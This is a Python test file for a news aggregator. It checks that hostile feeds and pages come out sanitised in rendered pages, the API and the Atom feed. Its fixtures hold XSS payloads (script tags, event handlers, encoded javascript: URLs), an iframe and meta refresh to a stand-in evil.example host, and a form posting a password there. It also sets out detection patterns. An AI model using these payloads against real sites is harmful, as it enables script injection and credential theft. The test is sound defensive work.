"""Hostile feeds and pages, ingested over loopback, come out of every page neutralised.

The payloads sit where an attacker controls text: the feed's item title and
author, the page's headline, byline, body, image and canonical URL. After a
real fetch, extraction and storage, no rendered page, API answer or feed out
carries an executable element, an event handler or a script URL.
"""

from __future__ import annotations

import asyncio
import re

from fastapi.testclient import TestClient
from lxml import etree
from lxml import html as lxml_html

from newsdesk.config import Settings
from newsdesk.enrich.enricher import Enricher
from newsdesk.ingest.pipeline import Pipeline
from newsdesk.store import articles, sources
from newsdesk.store.db import Database
from newsdesk.web.app import create_app
from tests.fixtureserver import FixtureServer, Response

SCRIPT_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.I)
BANNED_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}

HOSTILE_BODY = """
<p>Harbour cranes go electric <script>alert('body')</script> under a new plan approved on Monday
by the authority, officials said in a statement to reporters at the terminal gates.</p>
<p><img src="x" onerror="alert('img')" srcset="JaVaScRiPt:alert('srcset') 1x, /ok.png 2x">
The project will cost about 80 million euros, paid in part by a regional climate fund.</p>
<p><a href="&#106;avascript:alert('entity')">Read more</a> <iframe src="https://evil.example/"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object><svg onload="alert('svg')"></svg>
Dock workers asked for training guarantees before the first electric cranes arrive.</p>
<form action="https://evil.example/steal"><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
"""


def _page() -> str:
    return f"""<html><head><base href="https://evil.example/">
<title>Cranes &lt;script&gt;alert('title')&lt;/script&gt; go electric</title>
<meta property="og:image" content="javascript:alert('image')">
<link rel="canonical" href="data:text/html,<script>alert('canonical')</script>">
<meta name="author" content="&lt;img src=x onerror=alert('author')&gt;"></head>
<body><article><h1>Cranes <script>alert('h1')</script>go electric</h1>{HOSTILE_BODY}</article>
</body></html>"""


def _feed(server: FixtureServer) -> str:
    return (f"<?xml version='1.0'?><rss version='2.0'><channel><title>T</title><link>"
            f"{server.base}/</link><item><title>&lt;svg onload=alert('feed')&gt; Cranes</title>"
            f"<author>&lt;script&gt;alert('feedauthor')&lt;/script&gt;</author>"
            f"<link>{server.url('/story')}</link></item></channel></rss>")


def _assert_inert(markup: str, where: str) -> None:
    doc = lxml_html.fromstring(markup)
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag not in BANNED_TAGS, (where, el.tag)
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (where, el.tag, name)
            if name in ("href", "src", "srcset", "action", "formaction", "poster", "data"):
                assert not SCRIPT_URL.match(value), (where, el.tag, name, value)
        if el.tag == "meta":
            assert el.get("http-equiv", "").lower() != "refresh", where
        if el.tag == "form":
            assert not (el.get("action") or "/").startswith(("http:", "https:", "//")), where
        if el.tag == "script" and el.get("type") == "application/ld+json":
            assert "<" not in (el.text or ""), where  # data only; "<" escaped as \u003c
        elif el.tag == "script":
            assert el.get("nonce") and "alert(" not in (el.text or ""), where


def _assert_feed_inert(atom: bytes) -> None:
    """The feed is data: its HTML fields, once a reader unescapes them, are inert too."""
    root = etree.fromstring(atom)
    assert not [el for el in root.iter() if isinstance(el.tag, str)
                and etree.QName(el).localname == "script"]
    ns = {"a": "http://www.w3.org/2005/Atom"}
    for field in [*root.iterfind(".//a:entry/a:content", ns),
                  *root.iterfind(".//a:entry/a:summary", ns)]:
        if field.get("type") == "html" and field.text:
            _assert_inert(f"<div>{field.text}</div>", "atom " + etree.QName(field).localname)


def test_hostile_feed_and_page_are_inert_everywhere(server: FixtureServer, settings: Settings,
                                                    db: Database) -> None:
    server.add("/story", Response(body=_page()))
    feed = server.add("/rss", Response(body=_feed(server), content_type="application/rss+xml"))
    with db.write() as session:
        sources.add_source(session, feed)
    report = asyncio.run(Pipeline(settings, db).run_due())
    assert report.created == 1, report
    Enricher(settings, db).run_pending()
    with db.read() as session:
        row = articles.latest_articles(session)[0]
        article_id = row.id
        assert "<script" not in row.text and "alert('body')" not in row.text
        assert not SCRIPT_URL.match(row.image or "") and not SCRIPT_URL.match(row.canonical_url)
    client = TestClient(create_app(settings, db))
    for path in ("/", f"/articles/{article_id}", f"/articles/{article_id}?ai=summary",
                 "/search?q=cranes", "/sources"):
        response = client.get(path)
        assert response.status_code == 200, path
        _assert_inert(response.text, path)
    _assert_feed_inert(client.get("/feed.atom").content)
    api = client.get(f"/api/articles/{article_id}").json()
    assert not SCRIPT_URL.match(api["image"] or "") and not SCRIPT_URL.match(api["canonical_url"])
